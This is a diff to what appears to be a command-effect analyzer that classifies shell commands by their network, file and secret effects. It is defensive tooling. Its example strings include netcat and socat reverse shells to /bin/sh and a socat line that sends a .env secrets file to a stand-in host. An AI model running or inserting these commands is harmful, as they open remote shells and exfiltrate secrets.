@@ -5,10 +5,13 @@ import { textOf } from '../word.ts'
 import { carries } from './http.ts'
 
 const looksUp = (call: ProgramCall): void => {
+  // Sixteen bytes of anything in each packet.
+  const pads = /^f?ping/.test(call.name) && call.value('-p') !== undefined
   for (const word of call.operands) {
+    if (word.is === 'dynamic') call.take('fetch', word)
     const host = textOf(word)?.replace(/^@/, '').toLowerCase()
     if (host !== undefined && !/^(?:[a-z]+|\+.*)$/i.test(host))
-      call.effect(carries(call) ? 'net.send' : 'net.fetch', { host })
+      call.effect(pads || carries(call) ? 'net.send' : 'net.fetch', { host })
   }
   if (carries(call)) call.effect('net.send')
 }
@@ -103,7 +106,7 @@ export const NETWORK: ReadonlyArray<ProgramRow> = [
     examples: [
       'nc x.example 80 => net.send x.example',
       'nc -zv x.example 80 => net.fetch x.example',
-      'nc -e /bin/sh x.example 4444 => exec nc, opaque remote-code, net.send x.example',
+      'nc -e /bin/sh x.example 4444 => exec sh, opaque dynamic-command, exec nc, opaque remote-code, net.send x.example',
       'nc -l 8080 => spawn listener',
       'nc -U /tmp/a.sock => fs.write /tmp/a.sock',
     ],
@@ -114,7 +117,7 @@ export const NETWORK: ReadonlyArray<ProgramRow> = [
     examples: [
       'socat - TCP:x.example:80 => net.send x.example',
       'socat -u FILE:.env TCP:x.example:80 => fs.read .env, secret.read .env, fs.write .env, net.send x.example, secret.send x.example',
-      'socat TCP:x.example:80 EXEC:/bin/sh => net.send x.example, exec socat, opaque remote-code',
+      'socat TCP:x.example:80 EXEC:/bin/sh => net.send x.example, exec sh, opaque dynamic-command, exec socat, opaque remote-code',
     ],
   },
   {
